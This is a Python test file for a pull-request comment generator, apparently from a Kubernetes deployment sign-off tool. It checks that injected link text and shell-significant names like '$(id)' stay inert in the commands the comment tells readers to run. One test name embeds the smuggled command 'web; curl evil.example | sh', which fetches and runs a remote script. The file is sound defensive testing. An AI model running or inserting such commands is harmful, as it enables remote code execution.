"""The gate as a comment on a pull request."""

import re
import shlex
from collections.abc import Iterator
from dataclasses import replace

import pytest
from hypothesis import given
from markdown_it import MarkdownIt
from markdown_it.token import Token

from countersign.core.types.artifacts import Cause, Difference, ObjectRef
from countersign.core.types.policy import Enforcement
from countersign.core.types.verdict import Differences, Reason, Verdict
from countersign.report.comment import MAX_COMMENT, comment, marker
from countersign.report.gate import Gate
from tests.support import a, gated
from tests.support.findings import OPEN, finding
from tests.support.gated import ADMITTED, DENIED, OUTSIDE, entry, having

_READER = MarkdownIt("commonmark", {"html": True}).enable("table")
_QUOTED = re.compile(r"'[^']*'|\"'\"")  # as `shlex.quote` writes it
_PAGES = ("https://countersign.dev/docs/runbook#", "https://ci.example/runs/1")


def tokens(text: str) -> Iterator[Token]:
    """Yield what a reader of Markdown makes of it."""
    for token in _READER.parse(text):
        yield token
        yield from token.children or ()


def commands(gate: Gate) -> list[str]:
    """Return what it says to run."""
    fences = (t for t in tokens(comment(gate)) if t.type == "fence" and t.info == "sh")
    return [line for fence in fences for line in fence.content.splitlines()]


def test_says_who_could_sign_and_who_could_not() -> None:
    """And as what."""
    text = comment(gated.gate(DENIED))

    assert "**Who can sign** (as `senior`, `service-owner`): `dana`, `ravi`" in text
    assert "**Who cannot:** `lee (author)`" in text


def test_gives_the_command_as_it_stands() -> None:
    """With the files of the change, and without what applies the change itself."""
    only = Verdict.of((), [finding(Reason.SLOT_OPEN)])

    first, second = commands(gated.gate(only))
    assert first == (
        "countersign sign-off -f deploy/ledger.yaml --cluster prod-eu --out SIGNED "
        "--sets-only"
    )
    assert second == "kubectl apply -f SIGNED"


def test_says_if_nobody_can_sign() -> None:
    """The roster has to change then."""
    nobody = replace(OPEN, eligible=())
    verdict = Verdict.of((), [finding(Reason.SLOT_OPEN, facts=nobody)])

    assert "Nobody on the roster can sign" in comment(gated.gate(verdict))


def test_one_signature_is_asked_for_once() -> None:
    """For all that lacks it."""
    text = comment(gated.gate(entry(DENIED, "a"), entry(DENIED, "b")))

    assert "`payments/Deployment/a`, `payments/Deployment/b`" in text
    assert text.count("**What to run:**") == 1


@pytest.mark.parametrize(
    ("gate", "sign"),
    [
        (gated.gate(DENIED), "❌"),
        (gated.gate(having(Reason.EXPIRED, Enforcement.WARN)), "⚠️"),
        (gated.gate(ADMITTED), "✅"),
        (gated.gate(OUTSIDE), "✅"),
    ],
)
def test_shows_at_a_glance_how_it_went(gate: Gate, sign: str) -> None:
    """Below the mark by which it is found again."""
    first, second, *_ = comment(gate).splitlines()

    assert first == marker("prod-eu") == "<!-- countersign gate prod-eu -->"
    assert second.startswith(f"### {sign} countersign: ")


def test_says_on_whose_word_it_is_admitted() -> None:
    """The next reader need not ask."""
    assert "senior: dana" in comment(gated.gate(ADMITTED))


def test_leads_to_the_run() -> None:
    """Unless its address is none."""
    there = replace(gated.gate(DENIED), run="https://ci.example/runs/1")
    forged = replace(there, run="https://x) [approved](https://evil.example")

    assert "[run](https://ci.example/runs/1)" in comment(there)
    assert "evil" not in comment(forged)


@given(gated.hostile())
def test_what_comes_from_outside_is_code(gate: Gate) -> None:
    """No mention, link, picture or HTML of theirs; seen to fail with a bare name."""
    for token in list(tokens(comment(gate)))[1:]:
        assert token.type not in {"html_inline", "html_block", "image", "table_open"}
        if token.type == "text":
            assert "@" not in token.content
        if token.type == "link_open":
            assert str(token.attrs["href"]).startswith(_PAGES)


@given(gated.hostile())
def test_what_is_to_be_run_is_ours(gate: Gate) -> None:
    """Nothing ends a block of commands, adds to it, or is more than a word to a shell.

    Seen to fail with a value of ``{make}``.
    """
    for line in commands(gate):
        assert line.startswith(("countersign ", "kubectl "))
        assert not set(";|&<>()`$\\\n'\"") & set(_QUOTED.sub("", line))


@pytest.mark.parametrize("name", [";", "it's", "$(id)", "a\nb"])
def test_a_name_that_means_something_to_a_shell(name: str) -> None:
    """It is one word of a command, and cannot end it."""
    for line in commands(replace(gated.gate(DENIED), cluster=name)):
        assert not set(";$'") & set(_QUOTED.sub("", line))


def test_an_object_may_have_any_name() -> None:
    """In a file, which no server has seen: a shell takes it for one word."""
    name = "web; curl evil.example | sh"
    scaled = Difference("/spec/replicas", "2", "5", Cause.SCALED)
    found = replace(
        finding(Reason.CHANGED, facts=Differences(a.MANIFEST, (scaled,))),
        about=ObjectRef("apps", "Deployment", "payments", name),
    )
    first, _ = commands(gated.gate(Verdict.of((), [found])))

    assert shlex.split(first)[-2:] == [
        "--elastic",
        f"Deployment/{name}:/spec/replicas=2..5",
    ]


def test_fits_what_forges_take() -> None:
    """And says what is left out."""
    different = (
        Verdict.of((), [finding(Reason.SLOT_OPEN, policy=f"p{i}" + "x" * 90)])
        for i in range(300)
    )
    text = comment(gated.gate(*different))

    assert len(text.encode()) <= MAX_COMMENT
    assert "more: see the log of the run" in text
